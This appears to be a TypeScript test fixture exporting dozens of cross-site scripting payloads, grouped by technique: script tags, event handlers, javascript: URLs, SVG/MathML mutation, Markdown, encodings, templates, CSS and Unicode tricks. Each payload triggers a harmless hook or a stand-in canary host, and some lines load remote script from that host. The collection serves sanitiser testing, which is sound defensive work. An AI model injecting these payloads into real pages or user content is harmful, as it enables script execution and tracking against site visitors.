/** Where no page of ours may ever ask for anything. */
export const CANARY_HOST = 'canary.example';

// Each calls `__xss()` when it runs, or asks the canary's host for something when it is drawn as what it pretends to be.
const SCRIPTS = [
  '<script>__xss()</script>',
  '<SCRIPT SRC=//canary.example/a.js></SCRIPT>',
  '"><script>__xss()</script>',
  "'><script>__xss()</script>",
  '</script><script>__xss()</script>',
  '</textarea><script>__xss()</script>',
  '</title><script>__xss()</script>',
  '</style><script>__xss()</script>',
  '--><script>__xss()</script><!--',
  ']]><script>__xss()</script>',
  '<scr<script>ipt>__xss()</scr</script>ipt>',
  '<script/x>__xss()</script>',
  '<script\n>__xss()</script\n>',
  '<script type=module>__xss()</script>',
  '<script src="data:text/javascript,__xss()"></script>',
  '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
];

const HANDLERS = [
  '<img src=x onerror=__xss()>',
  '<img src=x onerror="__xss()"',
  '<IMG SRC=x OnErRoR=__xss()>',
  '<img/src=x/onerror=__xss()>',
  '<img src=x\tonerror\t=\t__xss()>',
  '<img src=`x`onerror=__xss()>',
  '" onmouseover="__xss()" x="',
  "' onfocus='__xss()' autofocus x='",
  '<body onload=__xss()>',
  '<input autofocus onfocus=__xss()>',
  '<select autofocus onfocus=__xss()>',
  '<textarea autofocus onfocus=__xss()>',
  '<details open ontoggle=__xss()>',
  '<video><source onerror=__xss()></video>',
  '<audio src=x onerror=__xss()>',
  '<marquee onstart=__xss()>x</marquee>',
  '<p style="animation:x 1s" onanimationstart=__xss()>',
  '<div onpointerenter=__xss()>over</div>',
  '<iframe onload=__xss()></iframe>',
  '<object data=x onerror=__xss()></object>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=__xss()>',
];

const ADDRESSES = [
  'javascript:__xss()',
  'JaVaScRiPt:__xss()',
  'java\tscript:__xss()',
  'java\nscript:__xss()',
  ' javascript:__xss()',
  '\u0001javascript:__xss()',
  'javascript://canary.example/%0a__xss()',
  'data:text/html,<script>parent.__xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
  'vbscript:__xss()',
  '<a href=javascript:__xss()>press</a>',
  '<a href="jav&#x09;ascript:__xss()">press</a>',
  '<form action=javascript:__xss()><button>press</button></form>',
  '<button formaction=javascript:__xss()>press</button>',
  '<iframe src=javascript:__xss()></iframe>',
  '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
  '<embed src=javascript:__xss()>',
  '<base href=//canary.example/>',
  '<meta http-equiv=refresh content="0;url=//canary.example">',
  '<link rel=stylesheet href=//canary.example/a.css>',
];

const DRAWINGS = [
  '<svg onload=__xss()>',
  '<svg/onload=__xss()>',
  '<svg><script>__xss()</script></svg>',
  '<svg><script href=data:,__xss() /></svg>',
  '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:__xss()>',
  '<svg><a xlink:href=javascript:__xss()><text y=9>x</text></a>',
  '<svg><foreignObject><img src=x onerror=__xss()>',
  '<svg><use href="data:image/svg+xml,<svg onload=__xss()>">',
  '<svg><style><img src=x onerror=__xss()></style>',
  '<math href=javascript:__xss()>press</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
  '<math><annotation-xml encoding=text/html><img src=x onerror=__xss()>',
  '<form><math><mtext></form><form><mglyph><svg><img src=x onerror=__xss()>',
];

const MARKDOWN = [
  '[press](javascript:__xss())',
  '[press](https://canary.example/link)',
  '![seen](https://canary.example/seen.png)',
  '![x](x "onerror=__xss()")',
  '[![x](https://canary.example/a.png)](javascript:__xss())',
  '<javascript:__xss()>',
  '[x]: javascript:__xss()\n[x]',
  '[press](data:text/html,<script>__xss()</script>)',
  '[a](<javascript:__xss()>)',
  '`</code><img src=x onerror=__xss()>`',
  '```\n</pre><img src=x onerror=__xss()>\n```',
  '**<img src=x onerror=__xss()>**',
  '| a |\n|---|\n| <img src=x onerror=__xss()> |',
  '<https://canary.example/auto>',
];

const ENTITIES = [
  '&lt;img src=x onerror=__xss()&gt;',
  '&#60;img src=x onerror=__xss()&#62;',
  '&#x3c;img src=x onerror=__xss()&#x3e;',
  '&amp;lt;script&amp;gt;__xss()&amp;lt;/script&amp;gt;',
  '&ltimg src=x onerror=__xss()&gt',
  '\\u003cimg src=x onerror=__xss()\\u003e',
  '\\x3cscript\\x3e__xss()\\x3c/script\\x3e',
  '%3Cimg%20src%3Dx%20onerror%3D__xss()%3E',
  '+ADw-script+AD4-__xss()+ADw-/script+AD4-',
];

const TEMPLATES = [
  '{{constructor.constructor("__xss()")()}}',
  '$' + '{__xss()}',
  '$' + '{if(true, "x", y)}',
  '$' + '{json("{}")}',
  '#{__xss()}',
  '<%= __xss() %>',
  '{{DATE(2026-01-01T00:00:00Z, SHORT)}}',
  '{"type":"Image","url":"https://canary.example/a.png"}',
  '"},{"type":"Action.OpenUrl","url":"javascript:__xss()"}',
  '<at>Alex</at><img src=x onerror=__xss()>',
  '__proto__[x]=<img src=x onerror=__xss()>',
];

const STYLES = [
  '<style>@import "//canary.example/a.css";</style>',
  '<div style="background:url(//canary.example/a.png)">x</div>',
  '<p style=position:fixed;inset:0;z-index:9999>covers</p>',
  '</style><img src=x onerror=__xss()>',
  'expression(__xss())',
];

const LETTERS = [
  '\u202e>)(ssx__=rorreno x=crs gmi<',
  '<img\u200bsrc=x onerror=__xss()>',
  '<\u200bscript>__xss()</script>',
  '\u2066<img src=x onerror=__xss()>\u2069',
  '\uff1cimg src=x onerror=__xss()\uff1e',
  '\u02c2script\u02c3__xss()\u02c2/script\u02c3',
  '<\u0455cript>__xss()</\u0455cript>',
  '<\u017fcript>__xss()</\u017fcript>',
  '\ufeff<img src=x onerror=__xss()>',
  'x\u2028<img src=x onerror=__xss()>',
  '\u202bשלום <img src=x onerror=__xss()>',
  'Z\u0351\u036b\u0343a\u0305\u0306l <svg onload=__xss()>',
];

/** Words of people who mean no good. None is longer than a company's name, so that most fields take them whole. */
export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...DRAWINGS,
  ...MARKDOWN,
  ...ENTITIES,
  ...TEMPLATES,
  ...STYLES,
  ...LETTERS,
];
